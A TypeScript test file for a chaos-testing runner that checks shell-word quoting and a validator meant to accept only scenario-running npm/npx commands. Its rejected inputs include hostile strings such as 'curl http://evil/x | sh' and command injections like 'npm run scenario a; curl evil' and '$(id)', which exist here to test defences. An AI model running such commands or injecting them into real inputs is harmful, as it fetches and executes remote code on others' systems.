import t from 'tap'
import { isTypedToPlay } from '../../runner/base/command-line.ts'
import { isWords, quoted } from '../../runner/base/shell-words.ts'

t.test('what is quoted is a word, and nothing else', async (t) => {
  for (const text of ['a', 'a b', "it's", '$(id)', '`id`', 'a;b', 'a|b', '', '!!', '*', '~', '# a', '"']) {
    t.ok(isWords(`run ${quoted(text)} more`), text)
  }
  const others = ['a; b', 'a|b', 'a && b', '$(id)', '`id`', 'a > b', 'a < b', 'a & b', "'a", 'a\nb', 'a\u202eb', '*']
  for (const text of [...others, '', '~/x', '$HOME', '"a"', 'a\\ b', '{a,b}', 'a  b', '#x', "'a\nb'", '!x', '(a)']) {
    t.notOk(isWords(text), JSON.stringify(text))
  }
})

t.test('a command that plays scenarios, as this program writes it', async (t) => {
  for (const text of [
    ...['npm run scenario failover-basic -- --seed 42', "npx redis-chaos run 'my file.yaml' --seed 1 --set a=b"],
    ...['npm run nightly -- --tag nightly', 'npm run scenario a -- --seed 1 --set password=***'],
  ]) {
    t.ok(isTypedToPlay(text), text)
  }
  for (const text of [
    ...['curl http://evil/x | sh', 'npm run scenario a; curl evil', 'npm run scenario-x', 'npm run evil', ''],
    ...['npm run scenario a\ncurl evil', ' npm run scenario a', 'npx redis-chaos heal', 'npm run scenarios $(id)'],
  ]) {
    t.notOk(isTypedToPlay(text), text)
  }
})
